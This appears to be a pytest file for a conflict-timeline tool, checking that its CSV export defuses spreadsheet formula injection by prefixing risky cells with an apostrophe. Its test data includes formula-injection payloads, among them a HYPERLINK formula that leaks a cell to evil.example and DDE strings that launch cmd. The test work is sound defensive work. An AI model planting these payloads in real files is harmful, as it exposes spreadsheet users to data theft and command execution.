"""CSV exports cannot carry spreadsheet formulas (issue 18, point 5).

The oracle is OWASP's rule, written out here: a text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms) gets a
leading apostrophe, as does a text cell that already begins with one, so that
dropping one leading apostrophe always gives the original text back. Numbers stay
numbers.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest

from conflict_timeline import (
    ActorDefined,
    Attack,
    Coordinates,
    PlaceDefined,
    Source,
    TimeExtent,
    Timeline,
    write_csv,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "'=already quoted",
]


def exported(*records: object) -> list[dict[str, str]]:
    timeline = Timeline()
    timeline.append(*records)  # type: ignore[arg-type]
    out = io.StringIO()
    write_csv(timeline, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def original(cell: str) -> str:
    """The documented way back: drop one leading apostrophe."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_name_is_neutralised_and_recoverable(text: str) -> None:
    (row,) = exported(ActorDefined(id="actor-1", name=text, actor_kind="state", notes=text))
    for column in ("name", "notes"):
        cell = row[column]
        assert not cell.startswith(TRIGGERS), (column, cell)
        assert cell.startswith("'")
        assert original(cell) == text


def test_every_text_column_is_neutralised() -> None:
    src = (Source(publisher="-Reuters", title="=title", url="https://example.org/=x"),)
    rows = exported(
        ActorDefined(id="@side", name="+Side", actor_kind="state"),
        PlaceDefined(
            id="=town",
            name="-Town",
            place_kind="town",
            aliases=("@alias",),
            coordinates=Coordinates(lat=-10.5, lon=-20.25),
        ),
        Attack(
            id="+attack",
            occurred=TimeExtent.parse("2020-10-05"),
            sources=src,
            perpetrator="@side",
            target_class="civilian",
            target="=cmd|' /C calc'!A0",
            means="-rockets",
            place="=town",
        ),
    )
    for row in rows:
        for column, cell in row.items():
            if NUMBER.fullmatch(cell):
                continue
            assert not cell.startswith(TRIGGERS), (column, cell)
    place = next(r for r in rows if r["kind"] == "PlaceDefined")
    assert (place["lat"], place["lon"]) == ("-10.5", "-20.25")  # numbers stay numeric
    assert place["id"] == "'=town"
    attack = next(r for r in rows if r["kind"] == "Attack")
    assert attack["sources"].startswith("'-Reuters")
    assert attack["place"] == "'=town"
    assert original(attack["target"]) == "=cmd|' /C calc'!A0"


def test_harmless_text_and_numbers_in_text_are_kept() -> None:
    (row,) = exported(
        ActorDefined(id="a", name="-5", actor_kind="state", notes="Don't panic: 2+2"),
    )
    assert row["name"] == "-5"  # a plain number is read as one, never as a formula
    assert row["notes"] == "Don't panic: 2+2"
    assert row["position"] == "1"


@pytest.mark.parametrize("text", ["one\rtwo", "one\ntwo", "one\r\ntwo"])
def test_line_breaks_inside_a_cell_keep_the_row_whole(text: str) -> None:
    rows = exported(
        ActorDefined(id="a", name="A", actor_kind="state", notes=text),
        ActorDefined(id="b", name="B", actor_kind="state"),
    )
    assert [r["id"] for r in rows] == ["a", "b"]
    assert rows[0]["notes"] == text


def test_the_events_command_writes_csv_as_the_export_does(tmp_path: Path) -> None:
    """`conflict-timeline events --format csv` (the docs redirect it into a file for a
    spreadsheet) neutralises a hostile headline and source as the export does, and
    keeps a line break inside its cell."""
    db = tmp_path / "hostile.db"
    with Timeline.open(db) as timeline:
        timeline.append(
            ActorDefined(id="evil", name=HOSTILE[0], actor_kind="armed_force"),
            Attack(
                id="a1",
                occurred=TimeExtent.parse("2024-05-01"),
                sources=(Source(publisher="@SUM(1+1)\rcmd", published="2024-05-03"),),
                perpetrator="evil",
                target_class="civilian",
            ),
        )
    command = Path(sys.executable).parent / "conflict-timeline"
    done = subprocess.run(
        [str(command), "events", str(db), "--format", "csv"],
        capture_output=True,
        check=True,
    )
    text = done.stdout.decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    for column, cell in row.items():
        assert not cell.startswith(TRIGGERS), (column, cell)
    assert original(row["what"]).startswith(HOSTILE[0])
    assert original(row["sources"]) == "@SUM(1+1)\rcmd"


ARABIC = "\u0627\u0644\u062c\u064a\u0634"  # "the army", as a GED actor name may be


def spreadsheet_timeline(timeline: Timeline | None = None) -> Timeline:
    timeline = Timeline() if timeline is None else timeline
    timeline.append(ActorDefined(id="army", name=ARABIC, actor_kind="state", notes="=1+1"))
    return timeline


def test_a_csv_for_excel_begins_with_a_byte_order_mark_and_only_when_asked(
    tmp_path: Path,
) -> None:
    # Excel reads a CSV without the UTF-8 byte order mark (EF BB BF) in the computer's
    # legacy code page, garbling Arabic and Cyrillic names; other readers keep the mark
    # as part of the first column's name, so it is asked for.
    for bom, start in ((True, b"\xef\xbb\xbfposition,"), (False, b"position,")):
        path = tmp_path / f"table-{bom}.csv"
        write_csv(spreadsheet_timeline(), path, bom=bom)
        data = path.read_bytes()
        assert data.startswith(start)
        assert data.count(b"\xef\xbb\xbf") == (1 if bom else 0)
        assert ARABIC.encode("utf-8") in data


def test_the_apostrophe_can_be_turned_off_for_a_file_code_reads() -> None:
    out = io.StringIO()
    write_csv(spreadsheet_timeline(), out, defuse=False)
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert row["notes"] == "=1+1"
    out = io.StringIO()
    write_csv(spreadsheet_timeline(), out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert row["notes"] == "'=1+1"


def test_the_export_command_takes_bom_and_no_defuse_for_csv_only(tmp_path: Path) -> None:
    db = tmp_path / "tl.db"
    with Timeline.open(db) as timeline:
        spreadsheet_timeline(timeline)
    command = [sys.executable, "-m", "conflict_timeline", "export", str(db)]
    for flags, notes in (((), "'=1+1"), (("--no-defuse",), "=1+1")):
        target = tmp_path / f"out{len(flags)}.csv"
        subprocess.run(
            [*command, "--format", "csv", "--bom", *flags, "-o", str(target)],
            capture_output=True,
            check=True,
        )
        data = target.read_bytes()
        assert data.startswith(b"\xef\xbb\xbfposition,")
        (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        assert (row["name"], row["notes"]) == (ARABIC, notes)
    refused = subprocess.run(
        [*command, "--format", "jsonl", "--bom"], capture_output=True, text=True, check=False
    )
    assert refused.returncode == 2
    assert "--bom and --no-defuse are for --format csv" in refused.stderr


@pytest.mark.parametrize("text", ["-10.5", "+1.5e3", "-1e3", "2E-4", ".5"])
def test_a_number_stays_a_number(text: str) -> None:
    """export.md: "Numbers (``-10.5``) stay numbers", in exponent form too."""
    (row,) = exported(ActorDefined(id="actor-1", name=text, actor_kind="state"))
    assert row["name"] == text


def test_every_formula_start_is_neutralised() -> None:
    """export.md: a text cell beginning with any of the formula starts, or their
    full-width forms, is written with a leading apostrophe."""
    for start in TRIGGERS:
        (row,) = exported(ActorDefined(id="actor-1", name=f"{start}x", actor_kind="state"))
        assert row["name"] == f"'{start}x", repr(start)
